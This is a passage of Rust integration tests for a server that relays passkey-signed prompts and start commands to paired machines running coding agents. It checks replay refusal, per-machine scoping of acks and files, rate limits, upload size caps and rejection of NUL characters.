            (day.sign(&old_cmd), "outside_grant"),
        ] {
            let (s, v) = post(&format!("{u}/page/api/signed"), LOGIN, &signed);
            assert_eq!((s, v["code"].as_str()), (400, Some(code)), "{v}");
        }
        let (s, _) = post(&format!("{u}/page/api/signed"), LOGIN, &json!({"cmd": cmd}));
        assert_eq!(s, 400, "an unsigned command is not carried");

        // Served to the machine, again until acked; never to the unsigned session poll, and
        // never to another machine.
        for _ in 0..2 {
            let (s, v) = call("GET", &poll, Some(&token), None);
            assert_eq!(s, 200);
            assert_eq!(v["messages"], json!([env]));
        }
        let session_poll = format!("{u}{CONTROL}?session={SESSION}&wait=0");
        assert_eq!(call("GET", &session_poll, Some(SINK), None).0, 204);
        let other_poll = format!("{u}{CONTROL}?machine={other}&wait=0");
        assert_eq!(call("GET", &other_poll, Some(&other_token), None).0, 204);

        // The sink token (or another machine's) cannot ack it away.
        let id = env["id"].as_str().unwrap();
        let at = "2026-10-08T09:14:02.110Z";
        let refused =
            json!({"acks": [{"id": id, "outcome": "refused", "code": "replay", "at": at}]});
        for t in [SINK, other_token.as_str()] {
            assert_eq!(post(&format!("{u}{CONTROL}/ack"), t, &refused).0, 202);
        }
        assert_eq!(call("GET", &poll, Some(&token), None).0, 200);
        // refused needs its code.
        let bare = json!({"acks": [{"id": id, "outcome": "refused", "at": at}]});
        assert_eq!(post(&format!("{u}{CONTROL}/ack"), &token, &bare).0, 400);
        assert_eq!(post(&format!("{u}{CONTROL}/ack"), &token, &refused).0, 202);
        assert_eq!(call("GET", &poll, Some(&token), None).0, 204);
        assert_eq!(
            r.wait_ack(id, Duration::from_secs(1)).unwrap()["code"],
            "replay"
        );

        // A prompt's timing rides in the envelope beside the signed cmd (DECISIONS 25); only
        // prompts have one, and only queue, steer or interrupt.
        let steer = command(
            &machine,
            "prompt",
            SESSION,
            &[("text", json!("use staging"))],
            &nonce(),
            now,
        );
        let mut body = day.sign(&steer);
        body["mode"] = json!("steer");
        let (s, env) = post(&format!("{u}/page/api/signed"), LOGIN, &body);
        assert_eq!(s, 200, "{env}");
        assert_eq!(
            (env["mode"].as_str(), env["cmd"].as_str()),
            (Some("steer"), Some(steer.as_str()))
        );
        let (s, v) = call("GET", &poll, Some(&token), None);
        assert_eq!((s, &v["messages"]), (200, &json!([env])));
        for (kind, fields, mode) in [
            ("prompt", vec![("text", json!("x"))], "now"),
            ("cancel", vec![], "steer"),
        ] {
            let c = command(&machine, kind, SESSION, &fields, &nonce(), now);
            let mut body = day.sign(&c);
            body["mode"] = json!(mode);
            let (s, v) = post(&format!("{u}/page/api/signed"), LOGIN, &body);
            assert_eq!(s, 400, "{kind} with mode {mode}: {v}");
        }

        // off: the machine and its token are gone.
        assert_eq!(post(&format!("{u}{CONTROL}/off"), SINK, &json!({})).0, 401);
        assert_eq!(
            post(&format!("{u}{CONTROL}/off"), &token, &json!({})).0,
            200
        );
        assert_eq!(call("GET", &poll, Some(&token), None).0, 401);
    }

    /// DECISIONS 36 and 39: the page carries a `start` only with a touch over it, and the
    /// receiver queues at most 20 starts an hour from one login (its policy before it queues;
    /// the machine's own caps are the gate): the 21st is 429 and not queued. A machine's
    /// hello is kept and shown on it in the page's state.
    #[test]
    fn a_start_needs_a_touch_starts_are_limited_per_login_and_a_hello_shows_what_a_machine_can_start(
    ) {
        let r = start(Some("localhost"));
        let u = r.url();
        let passkey = Passkey::es256(94);
        let (machine, token) = pair(&r, &passkey, None);
        let token = token.unwrap();
        let now = now_ms();
        let start_cmd = || {
            command(
                &machine,
                "start",
                SESSION,
                &[
                    ("text", json!("fix the tests")),
                    ("cwd", json!("/srv/work")),
                ],
                &nonce(),
                now,
            )
        };
        let day = day_key(8, &passkey, now);
        let (s, v) = post(
            &format!("{u}/page/api/signed"),
            LOGIN,
            &day.sign(&start_cmd()),
        );
        assert_eq!(s, 400, "{v}");
        assert!(v.to_string().contains("touch"), "{v}");
        let touched = |cmd: String| {
            let confirm = passkey.assert(&sha256(cmd.as_bytes()), &Ceremony::get("localhost"));
            json!({"cmd": cmd, "confirm": confirm})
        };
        for i in 0..20 {
            let (s, v) = post(
                &format!("{u}/page/api/signed"),
                LOGIN,
                &touched(start_cmd()),
            );
            assert_eq!(s, 200, "start {i}: {v}");
        }
        let (s, v) = post(
            &format!("{u}/page/api/signed"),
            LOGIN,
            &touched(start_cmd()),
        );
        assert_eq!(s, 429, "{v}");
        assert!(v.to_string().contains("at most 20 an hour"), "{v}");
        let poll = format!("{u}{CONTROL}?machine={machine}&wait=0");
        let (s, v) = call("GET", &poll, Some(&token), None);
        assert_eq!(s, 200);
        assert_eq!(v["messages"].as_array().unwrap().len(), 20, "{v}");

        // The machine's hello (its token only) says what it can start; the page's state
        // shows it on that machine.
        let hello =
            json!({"harnesses": ["claude-code", "codex"], "folders": ["/srv/work"], "files": true});
        let url = format!("{u}{CONTROL}/hello");
        assert_eq!(post(&url, SINK, &hello).0, 401);
        assert_eq!(post(&url, &token, &json!({"harnesses": ["../x"]})).0, 400);
        assert_eq!(post(&url, &token, &hello).0, 200);
        let (s, st) = call("GET", &format!("{u}/page/api/state"), Some(LOGIN), None);
        assert_eq!(s, 200);
        let m = &st["signing"]["machines"][0];
        assert_eq!(m["machine"], json!(machine), "{st}");
        assert_eq!(m["can_start"], hello, "{st}");
    }

    /// DECISIONS 39: a start's file, uploaded by the page (at most 8 MiB, for a paired
    /// machine), is named by its base64url SHA-256 and served at `{control}/files/{sha256}`
    /// to that machine's token only; one login uploads at most 100 files an hour.
    #[test]
    fn a_start_file_is_kept_for_its_machine_only_capped_and_limited_per_login() {
        let r = start(Some("localhost"));
        let u = r.url();
        let (machine, token) = pair(&r, &Passkey::es256(95), None);
        let (_, other) = pair(&r, &Passkey::es256(96), None);
        let (token, other) = (token.unwrap(), other.unwrap());
        let agent: ureq::Agent = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .timeout_global(Some(Duration::from_secs(20)))
            .build()
            .into();
        let upload = |m: &str, bytes: Vec<u8>| -> (u16, Value) {
            let res = agent
                .post(&format!("{u}/page/api/files?machine={m}"))
                .header("authorization", &format!("Bearer {LOGIN}"))
                .header("content-type", "application/octet-stream")
                .send(bytes);
            // A body refused from its declared length may be cut while it is still sent.
            let Ok(mut res) = res else {
                return (0, Value::Null);
            };
            let text = res.body_mut().read_to_string().unwrap_or_default();
            (
                res.status().as_u16(),
                serde_json::from_str(&text).unwrap_or(Value::Null),
            )
        };
        let fetch = |sha: &str, bearer: Option<&str>| -> (u16, Vec<u8>) {
            let mut q = agent.get(&format!("{u}{CONTROL}/files/{sha}"));
            if let Some(b) = bearer {
                q = q.header("authorization", &format!("Bearer {b}"));
            }
            let mut res = q.call().unwrap();
            (
                res.status().as_u16(),
                res.body_mut().read_to_vec().unwrap_or_default(),
            )
        };
        let bytes = b"line one\nline two\n".to_vec();
        let (s, v) = upload(&machine, bytes.clone());
        assert_eq!(s, 200, "{v}");
        let sha = b64(&sha256(&bytes));
        assert_eq!(v, json!({"sha256": sha, "size": bytes.len()}));
        assert_eq!(fetch(&sha, Some(&token)), (200, bytes.clone()));
        assert_eq!(fetch(&sha, Some(&other)).0, 404, "another machine's file");
        assert_eq!(fetch(&sha, Some(SINK)).0, 401);
        assert_eq!(fetch(&sha, None).0, 401);
        assert_eq!(upload("m_nosuchmachine", bytes.clone()).0, 404);
        assert_eq!(upload(&machine, Vec::new()).0, 400);
        let big = vec![b'x'; (8 << 20) + 1];
        let (s, v) = upload(&machine, big.clone());
        assert!(s == 413 || s == 0, "over 8 MiB: {s} {v}");
        assert_eq!(fetch(&b64(&sha256(&big)), Some(&token)).0, 404, "not kept");
        for i in 1..100 {
            let (s, v) = upload(&machine, format!("file {i}").into_bytes());
            assert_eq!(s, 200, "upload {i}: {v}");
        }
        let (s, v) = upload(&machine, b"one too many".to_vec());
        assert_eq!(s, 429, "{v}");
        assert!(v.to_string().contains("at most 100 an hour"), "{v}");
    }

    /// A NUL in any string of a request is refused 400 naming the field (it used to reach
    /// the store: kept on SQLite, a 500 on PostgreSQL); in an event batch the event is
    /// rejected naming it, the rest of the batch kept.
    #[test]
    fn a_nul_in_a_requests_strings_is_a_400_naming_the_field() {
        let r = start(Some("localhost"));
        let u = r.url();
        let pair = format!("{u}{CONTROL}/pair");
        for (body, field) in [
            (json!({"name": "lap\u{0}top"}), "name"),
            (json!({"machine": "m_\u{0}"}), "machine"),
        ] {
            let (s, v) = post(&pair, SINK, &body);
            assert_eq!(s, 400, "{body}: {v}");
            assert_eq!(
                v["reason"].as_str(),
                Some(format!("NUL character in {field}").as_str()),
                "{v}"
            );
        }
        let (_, token) = pair_machine(&r);
        let (s, v) = call(
            "GET",
            &format!("{u}{CONTROL}?machine=m_%00x&wait=0"),
            Some(&token),
            None,
        );
        assert_eq!(s, 400, "{v}");
        assert_eq!(v["reason"], "NUL character in query parameter machine");
        let (s, v) = post(
            &format!("{u}/page/api/enqueue"),
            LOGIN,
            &json!({"session": SESSION, "message": {"kind": "prompt", "text": "a\u{0}b"}}),
        );
        assert_eq!(s, 400, "{v}");
        assert_eq!(v["reason"], "NUL character in message.text");
        let event = |id: &str, cwd: &str| {
            json!({"protocol": 1, "id": id, "type": "session.started",
                   "time": "2026-01-01T00:00:00.000Z", "tier": 0,
                   "harness": {"name": "codex"},
                   "session": {"id": "s1", "seq": 0, "cwd": cwd},
                   "privacy": {"rulesets": [], "pii": false}, "data": {}})
        };
        let bad = "01JAAAAAAAAAAAAAAAAAAAAAA1";
        let (s, v) = post(
            &format!("{u}/api/sessionpipe/v1/events"),
            SINK,
            &json!({"events": [event(bad, "/tmp/a\u{0}b")]}),
        );
        assert_eq!(s, 202, "{v}");
        assert_eq!(
            v["rejected"],
            json!([{"id": bad, "reason": "NUL character in session.cwd"}])
        );
        assert_eq!(call("GET", &format!("{u}/healthz"), None, None).0, 200);
    }

    /// Pairs one machine through the routes; its id and token.
    fn pair_machine(r: &Receiver) -> (String, String) {
        let (m, t) = pair(r, &Passkey::es256(71), None);
        (m, t.expect("a first pairing's token"))
    }

    #[test]
    fn a_public_url_names_the_rp_id_and_the_pairing_link() {
        let r = Receiver::start(ReceiverOptions {
            token: SINK.into(),
            login_token: Some(LOGIN.into()),
            rp_id: Some("pipe.example.org".into()),
            public_url: Some("https://pipe.example.org".into()),
            ..ReceiverOptions::default()
        })
        .unwrap();
        assert_eq!(
            r.well_known()["control"]["signing"]["rp_id"],
            "pipe.example.org"
        );
        let (s, v) = post(&format!("{}{CONTROL}/pair", r.url()), SINK, &json!({}));
        assert_eq!(s, 201);
        let code = v["code"].as_str().unwrap();
        assert_eq!(
            v["url"],
            json!(format!("https://pipe.example.org/pair?code={code}"))
        );
    }

    #[test]
    fn without_an_rp_id_the_receiver_is_unsigned_as_before() {
        let r = start(None);
        let u = r.url();
        assert!(r.well_known()["control"].get("signing").is_none());
        assert_eq!(post(&format!("{u}{CONTROL}/pair"), SINK, &json!({})).0, 404);
        assert_eq!(
            call(
                "GET",
                &format!("{u}{CONTROL}?machine=m_x&wait=0"),
                Some(SINK),
                None
            )
            .0,
            404
        );
        assert_eq!(post(&format!("{u}{CONTROL}/off"), SINK, &json!({})).0, 404);
    }
}
